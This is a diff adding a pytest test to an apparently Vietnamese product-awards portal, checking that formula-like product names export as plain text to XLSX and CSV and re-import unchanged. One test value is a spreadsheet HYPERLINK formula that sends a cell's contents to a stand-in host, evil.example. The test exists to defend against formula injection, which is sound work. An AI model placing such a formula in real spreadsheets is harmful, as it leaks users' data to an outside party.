@@ -1,18 +1,23 @@
 """Export → import gives "unchanged" on every row, for every kind: the export is the import's own layout (dates
 dd/mm/yyyy, money 1.075.000.000, provinces before 2025 marked), so staff can download, edit and re-import."""
 
+import csv
 import datetime
+import io
 from decimal import Decimal
 
 import pytest
+from openpyxl import load_workbook
 
 from awards.models import Level
 from awards.services import ocop_rating_record, recognition_record
 from extension_projects import services as extension
 from extension_projects.enums import FairLevel, ProjectStatus
 from extension_projects.models import FairParticipation, Project
+from portal.exports.lists import csv_lines
 from portal.imports.workbooks import export_workbook
 from portal.models import ImportStatus
+from portal.spreadsheets import FORMULA_STARTS
 from products.models import Producer
 from tests import factories
 from tests.extension_projects.helpers import project
@@ -114,3 +119,28 @@ def test_the_export_holds_the_users_province_only(staff_user, other_staff_user, 
     assert len(sheet_rows(export_workbook("producers", staff_user))) == 4
     assert Producer.objects.count() == 4
     assert FairParticipation.objects.count() == 2
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+
+
+@pytest.mark.parametrize("name", [EVIL, "+84 Chè", "-Mắm", "@Trà", "'=x đã có dấu nháy"])
+def test_formula_like_names_round_trip_as_text(staff_user, product_a, name):
+    """A product named like a formula is exported as text (an XLSX string cell; in CSV behind a ') and comes back
+    unchanged through the import, from either file."""
+    product_a.name = name
+    product_a.save(update_fields=["name"])
+    data = export_workbook("products", staff_user)
+    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row if c.value == name]
+    assert [c.data_type for c in cells] == ["s"]
+    batch = preview(staff_user, "products", upload_bytes(data, "products.xlsx"))
+    assert batch.errors == []
+    assert batch.totals == {"new": 0, "updated": 0, "unchanged": 1, "refused": 0}
+
+    rows = sheet_rows(data)
+    text = "".join(csv_lines(rows[0], rows[1:]))
+    written = next(r for r in csv.reader(io.StringIO(text.lstrip("\ufeff"))) if name in "".join(r))
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in written)
+    batch = preview(staff_user, "products", upload_bytes(text.encode("utf-8"), "products.csv"))
+    assert batch.errors == []
+    assert batch.totals == {"new": 0, "updated": 0, "unchanged": 1, "refused": 0}
